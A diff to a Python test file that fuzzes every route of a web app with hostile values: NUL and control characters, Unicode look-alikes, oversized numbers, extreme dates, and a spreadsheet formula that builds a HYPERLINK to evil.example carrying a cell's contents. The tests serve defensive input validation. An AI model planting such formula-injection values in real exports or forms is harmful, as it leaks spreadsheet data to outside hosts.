@@ -128,22 +128,24 @@ def test_dates_in_urls_and_query_strings_answer_in_chinese(client, tree, users):
 # --- the walker: every route × every field × hostile values, as a grid worker and as the admin -------------
 
 HOSTILE = {
-    "nul": "甲\x00乙",
-    "control": "a\x1b[31m\x07b\x7f\x85c",
+    "text": "甲\x00乙\x1b[31m\x07\x7f\x85ａｄｍｉｎ\u200b\u202e１２３",  # NUL, controls, look-alikes
     "long": "长" * 100_000,
     "huge": str(2**63),
     "negative": "-1",
     "year1": "0001-01-01",
     "year9999": "9999-12-31",
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
-    "lookalike": "ａｄｍｉｎ\u200b\u202e１２３",
 }
+# Each route gets every cheap value (refused while the request is read) and, turn by turn, one of each
+# pair of the others: the walk stays a few minutes on a slow machine and every value meets every kind of
+# field across the routes.
+ALWAYS = ("text", "long")
+TURNS = (("huge", "negative"), ("year1", "year9999"), ("formula", "text"))
 INVALID_UTF8 = b"\xff\xfe\xc3("
 # Query-string names any list or page reads.
 QUERY_NAMES = ("page", "grid_id", "q", "week", "start", "end", "month", "period", "status", "state", "kind", "size",
                "household_id", "unit_id", "category_id", "event_id", "actor", "action", "entity", "entity_id",
                "receipt", "next", "target", "leaf", "role", "party", "mine", "overdue", "year", "quarter")
-QUERY_VALUES = ("nul", "long", "huge", "negative", "year1", "year9999")
 # Fields a form needs to say which of its forms is sent (kept as the page has them).
 KEEP_FIELDS = {"csrf_token", "action", "which", "form_key"}
 # Posts whose effect does not depend on what is typed and that would end the walk (or the account) early.
@@ -217,9 +219,10 @@ def _walk(app, client, role, ids):
     routes = [(rule, method, url) for rule, method, url in _routes(app, ids) if rule.endpoint != "static"]
     # Deleting and cancelling last: the records they remove are what the other routes take.
     routes.sort(key=lambda r: (r[1] == "POST", any(w in r[0].endpoint for w in ("delete", "remove", "cancel", "archive"))))
-    for rule, method, url in routes:
+    for turn, (rule, method, url) in enumerate(routes):
+        values = ALWAYS + tuple(pair[turn % 2] for pair in TURNS)
         if method == "GET":
-            for name in QUERY_VALUES[:2] if _is_pdf(rule) else QUERY_VALUES:
+            for name in values[2:4] if _is_pdf(rule) else values:
                 value = HOSTILE[name][:2000] if name == "long" else HOSTILE[name]
                 walk.send("GET", url + "?" + urlencode({k: value for k in QUERY_NAMES}))
             if not _is_pdf(rule):
@@ -237,9 +240,8 @@ def _walk(app, client, role, ids):
         else:
             client.get("/")
             fields = {}
-        fields.setdefault("csrf_token", client.token)
-        for name, value in HOSTILE.items():
-            data = {k: (v if k in KEEP_FIELDS or k.endswith("version") else value) for k, v in fields.items()}
+        for name in dict.fromkeys(values):
+            data = {k: (v if k in KEEP_FIELDS or k.endswith("version") else HOSTILE[name]) for k, v in fields.items()}
             data["csrf_token"] = client.token
             walk.send("POST", url, data=data)
         raw = "&".join(f"{k}={INVALID_UTF8.decode('latin-1')}" for k in fields if k not in KEEP_FIELDS)
@@ -263,5 +265,11 @@ def test_hostile_input_walker(app, make_client, tree, users, role):
     client = make_client()
     client.login(role)
     walk = _walk(app, client, role, ids)
-    assert walk.requests > 500
+    assert walk.requests > 400
     assert not walk.problems, "\n".join(walk.problems[:60])
+
+
+def test_a_period_refused_on_a_grid_page_keeps_the_grid_of_the_path(client, tree, users):
+    client.login("admin")
+    resp = client.get(f"/assessment/grids/{tree['county']}?grid_id=x&period=9999-12")
+    assert resp.status_code == 302 and resp.headers["Location"].startswith(f"/assessment/grids/{tree['county']}")
